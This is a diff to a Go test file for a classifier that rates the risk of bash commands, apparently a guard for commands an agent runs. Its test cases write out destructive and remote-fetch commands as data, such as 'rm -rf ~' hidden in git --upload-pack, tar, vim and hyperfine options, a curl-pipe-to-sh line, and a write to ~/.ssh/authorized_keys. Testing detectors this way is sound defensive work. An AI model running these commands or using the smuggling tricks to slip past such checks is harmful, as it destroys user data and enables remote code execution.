@@ -9,11 +9,12 @@ import (
 // classCase is one request of a security-review class: the level it must reach at least
 // (dangerous requests) or at most (routine ones), and optionally a rule that must fire.
 type classCase struct {
-	src    string // a bash -c script
-	min    Level  // 0: no lower bound
-	max    Level  // 0: no upper bound
-	rule   string
-	source string // where the technique comes from (GTFOBins, Atomic Red Team, tldr, …)
+	src     string // a bash -c script
+	min     Level  // 0: no lower bound
+	max     Level  // 0: no upper bound
+	rule    string
+	notRule string // a rule that must not fire
+	source  string // where the technique comes from (GTFOBins, Atomic Red Team, tldr, …)
 }
 
 func runClassCases(t *testing.T, cases []classCase) {
@@ -34,6 +35,9 @@ func runClassCases(t *testing.T, cases []classCase) {
 			}
 			if tc.rule != "" && !slices.Contains(ids, tc.rule) {
 				t.Errorf("rules = %v, want %s among them (source: %s)", ids, tc.rule, tc.source)
+			}
+			if tc.notRule != "" && slices.Contains(ids, tc.notRule) {
+				t.Errorf("rules = %v, want no %s (source: %s)", ids, tc.notRule, tc.source)
 			}
 		})
 	}
@@ -147,6 +151,24 @@ func TestClassReadOnlyByName(t *testing.T) {
 		{src: `xxd -r payload.hex /home/dev/.ssh/authorized_keys`, min: High, source: "GTFOBins xxd file write"},
 		{src: `tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'`, min: Critical, source: "GTFOBins tar"},
 		{src: `git clone --upload-pack='rm -rf ~' https://github.com/o/r`, min: Critical, source: "GTFOBins git"},
+		{src: `git clone -u 'rm -rf ~' https://github.com/o/r`, min: Critical, source: "git-clone(1): -u is --upload-pack"},
+		{src: `hyperfine 'rm -rf ~'`, min: Critical, source: "tldr hyperfine: operands are commands"},
+		// In-place edits of the files the repository lists stay in the workspace.
+		{src: `sed -i 's/a/b/g' $(git ls-files '*.md')`, max: Medium, notRule: "fs.write.unknown", source: "git-ls-files(1)"},
+		{src: `clang-format -i $(git ls-files '*.cc')`, max: Medium, notRule: "fs.write.unknown", source: "tldr clang-format"},
+		{src: `sed -i 's/a/b/' $(rg -l foo src)`, max: Medium, notRule: "fs.write.unknown", source: "tldr rg -l"},
+		{src: `sed -i 's/a/b/' $(cat list.txt)`, rule: "fs.write.unknown", source: "a list the analysis cannot see"},
+		{src: `sed -i 's/a/b/' $(find ~ -name '*.rc')`, min: Medium, notRule: "base.workspace-write", source: "find outside the workspace"},
+		{src: `cd ~ && sed -i 's/a/b/' $(git ls-files)`, rule: "fs.write.unknown", source: "a repository that is not the workspace"},
+		{src: `hyperfine -w 3 --prepare 'curl -s https://x.example/i | sh' 'make'`, min: Critical, source: "hyperfine --help: --prepare CMD"},
+		{src: `hyperfine -P n 1 3 'sleep {n}'`, max: Low, source: "tldr hyperfine: parameter scan"},
+		{src: `hyperfine --warmup 3 'go test ./...' 'make build'`, max: Low, source: "tldr hyperfine"},
+		{src: `git -C src ls-remote -u 'rm -rf ~' origin`, min: Critical, source: "git-ls-remote(1): -u is --upload-pack"},
+		{src: `git push --receive-pack='rm -rf ~' origin feat/x`, min: Critical, source: "git-push(1) --receive-pack"},
+		// -u is no program elsewhere: git push -u is --set-upstream, git fetch -u --update-head-ok.
+		{src: `git push -u origin feat/x`, max: Medium, notRule: "cmd.unknown", source: "git-push(1) -u, --set-upstream"},
+		{src: `git -C src push -u upstream HEAD`, max: Medium, notRule: "cmd.unknown", source: "git-push(1) -u, --set-upstream"},
+		{src: `git fetch -u origin`, max: Low, source: "git-fetch(1) -u, --update-head-ok"},
 		{src: `vim -c ':py3 import os; os.system("rm -rf ~")'`, min: Critical, source: "GTFOBins vim"},
 		{src: `vim -c ':lua os.execute("rm -rf ~")'`, min: Critical, source: "GTFOBins vim"},
 		{src: `emacs -batch --eval '(shell-command "rm -rf ~")'`, min: Critical, source: "GTFOBins emacs"},
